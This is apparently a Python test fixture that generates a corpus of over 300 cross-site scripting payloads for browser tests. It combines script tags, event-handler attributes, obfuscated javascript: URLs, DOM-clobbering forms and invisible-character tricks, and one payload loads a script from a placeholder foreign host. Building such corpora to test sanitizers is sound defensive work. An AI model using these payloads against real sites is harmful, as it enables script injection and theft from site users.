"""Over 300 texts that run a script, or send for one, where a page takes them for more than text.

Each begins and ends with itself, so that every one can stand beside others. What they would do is
`RAN`, or a request to FOREIGN, which a test puts the address of its own listener in for.
"""

from collections.abc import Iterator
from pathlib import Path

from tests.browser.hostile_corpus import ODD_TEXTS, RAN, SCRIPTS

FOREIGN = "{foreign}"

_CORES = (
    f"<script>{RAN}</script>",
    f"<img src=x onerror={RAN}>",
    f"<svg onload={RAN}>",
    f"<iframe src=javascript:parent.{RAN}></iframe>",
    f"<input autofocus onfocus={RAN}>",
    f"<script src={FOREIGN}/a.js></script>",
)
# What may stand around a text, left.
_WAYS_OUT = (
    *("</script>", "</textarea>", "</title>", "</style>", "</template>", "</noscript>"),
    *("</select>", "</option></select>", "</code></pre>", "</iframe>", "</xmp>", "</noembed>"),
    *("</svg>", "</dialog></main>", "-->", "--!>", "]]>", "?>", "%>"),
    *('">', "'>", '"/>', "`>", '\\">'),
)
_EVENTS = {
    "img src=x": "onerror",
    "img src=/static/none.svg": "onerror",
    "audio src=x": "onerror",
    "video src=x": "onerror",
    "video><source src=x": "onerror",
    "object data=x": "onerror",
    "body": "onload",
    "body ": "onpageshow",
    "body  ": "onhashchange",
    "details open": "ontoggle",
    "input autofocus": "onfocus",
    "select autofocus": "onfocus",
    "textarea autofocus": "onfocus",
    "button autofocus": "onfocus",
    "b contenteditable autofocus": "onfocus",
    "b tabindex=1": "onfocus",
    "b ": "onclick",
    "b  ": "onmouseover",
    "b   ": "onpointerenter",
    "b    ": "onpointerrawupdate",
    "b     ": "onauxclick",
    "b      ": "oncontextmenu",
    "b style=display:block": "onwheel",
    "a href=#": "onclick",
    "form><button": "onclick",
    "form": "onsubmit",
    "form ": "onformdata",
    "marquee": "onstart",
    "marquee loop=1 width=0": "onfinish",
    "style": "onload",
    "link rel=stylesheet href=/static/x": "onerror",
    "b style=transition:opacity": "ontransitionend",
    "b style=animation:x": "onanimationstart",
    "div popover id=p": "onbeforetoggle",
    "xss hidden=until-found": "onbeforematch",
    "input type=search": "onsearch",
    "svg": "onload",
    "svg ": "onbegin",
    "math": "onclick",
    "custom-element": "onfocusin",
}
_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\tscript:"),
    *("java\nscript:", "java\rscript:", "\x01javascript:", "\x1fjavascript:", "javascript\t:"),
    *("javascript&colon;", "javascript&#58;", "&#106;avascript:", "&#x6a&#x61vascript:"),
    *("javascript://%0a", "javascript:/*-/*`*/", "javascript:%20", "view-source:javascript:"),
    *("feed:javascript:", "vbscript:", "livescript:", "jav&Tab;ascript:", "jav&NewLine;ascript:"),
    *("\ufeffjavascript:", "javascript:\u2028"),
)
_URL_PLACES = (
    "<a href='{}'>x</a>",
    "<iframe src='{}'></iframe>",
    "<form action='{}'><button>x</button></form>",
    "<svg><a xlink:href='{}'><text>x</text></a></svg>",
    "<meta http-equiv=refresh content='0;url={}'>",
)
# Of what scripts ask a page for.
_NAMES = (
    *("body", "head", "forms", "cookie", "location", "getElementById", "querySelector", "action"),
    *("createElement", "documentElement", "defaultView", "currentScript", "__ran", "nodeName"),
    *("attributes", "submit", "elements", "parentNode", "children", "constructor"),
)
_FORMS = (
    "<form id={0} name={0}><input name={0}></form>",
    "<img name={0}>",
    "<a id={0} name={0} href=x>x</a>",
)
_ODD = ("\u202e", "\u2066", "\x00", "\u200b", "\ufeff", "\x08", "\x1b[31m", "\u0338")
_UNPRINTABLE = (
    f"<img\x0csrc=x\x0conerror={RAN}>",
    f"<SCRIPT\x00>{RAN}</SCRIPT>",
    f"<script\n>{RAN}</script\n>",
    f"\u2028{RAN}\u2029",
)
_LISTED = Path(__file__).with_suffix(".txt")


def payloads(foreign: str) -> list[str]:
    """All of them, in the same order always; `foreign` is an origin, as http://127.0.0.1:1."""
    return [one.replace(FOREIGN, foreign) for one in dict.fromkeys(_all())]


def _all() -> Iterator[str]:
    yield from SCRIPTS.values()
    yield from ODD_TEXTS.values()
    yield from _CORES
    for number, out in enumerate(_WAYS_OUT):
        yield from (out + _CORES[(number + more) % len(_CORES)] for more in range(3))
    for element, event in _EVENTS.items():
        yield f"<{element} {event}={RAN}>x</{element.partition(' ')[0]}>"
        yield f"x' {event}='{RAN}' tabindex='1"
        yield f'x" {event}="{RAN}" autofocus="'
    for number, scheme in enumerate(_SCHEMES):
        url = scheme + RAN
        yield url
        yield _URL_PLACES[number % len(_URL_PLACES)].format(url)
    lines = _LISTED.read_text("utf-8").split("\n")
    yield from (line for line in lines if line and not line.startswith("# "))
    yield from _UNPRINTABLE
    yield from (_FORMS[number % 3].format(name) for number, name in enumerate(_NAMES))
    for number, odd in enumerate(_ODD):
        core = _CORES[number % len(_CORES)]
        yield odd + core
        yield core[:4] + odd + core[4:]
        yield core.replace("=", f"={odd}").replace("<script>", f"<script>{odd}")
